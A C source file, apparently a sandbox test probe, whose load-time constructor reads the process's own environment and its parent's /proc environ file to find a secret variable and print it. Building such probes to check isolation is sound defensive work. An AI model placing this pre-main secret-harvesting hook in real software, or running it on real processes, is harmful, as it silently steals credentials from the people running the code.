/* Class 1 (constructor before main): read the launcher's environment (/proc/<ppid>/environ) and the
   process's own environment before the runtime clears it, and carry out the secret variable. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
const char *outcome(long rc);
extern char **environ;

#define KEY "NATIVE_ATTACK_SECRET="

static void carry_out(const char *where, const char *entry) {
    say("%s_secret=%s\n", where, entry + strlen(KEY));
    fprintf(stderr, "constructor found in %s: %s\n", where, entry);
}

__attribute__((constructor)) static void steal_before_main(void) {
    say("ctor_ran=1\n");
    for (char **e = environ; e && *e; e++)
        if (strncmp(*e, KEY, strlen(KEY)) == 0) carry_out("own_environ", *e);

    char path[64];
    snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
    static char buf[1 << 16];
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    say("ctor_open_parent_environ=%s\n", outcome(fd));
    if (fd < 0) return;
    size_t len = 0;
    ssize_t n;
    while (len < sizeof buf - 1 && (n = read(fd, buf + len, sizeof buf - 1 - len)) > 0) len += (size_t)n;
    close(fd);
    buf[len] = 0;
    for (size_t i = 0; i < len; i += strlen(buf + i) + 1)
        if (strncmp(buf + i, KEY, strlen(KEY)) == 0) carry_out("parent_environ", buf + i);
}

void probe_main(void) {}
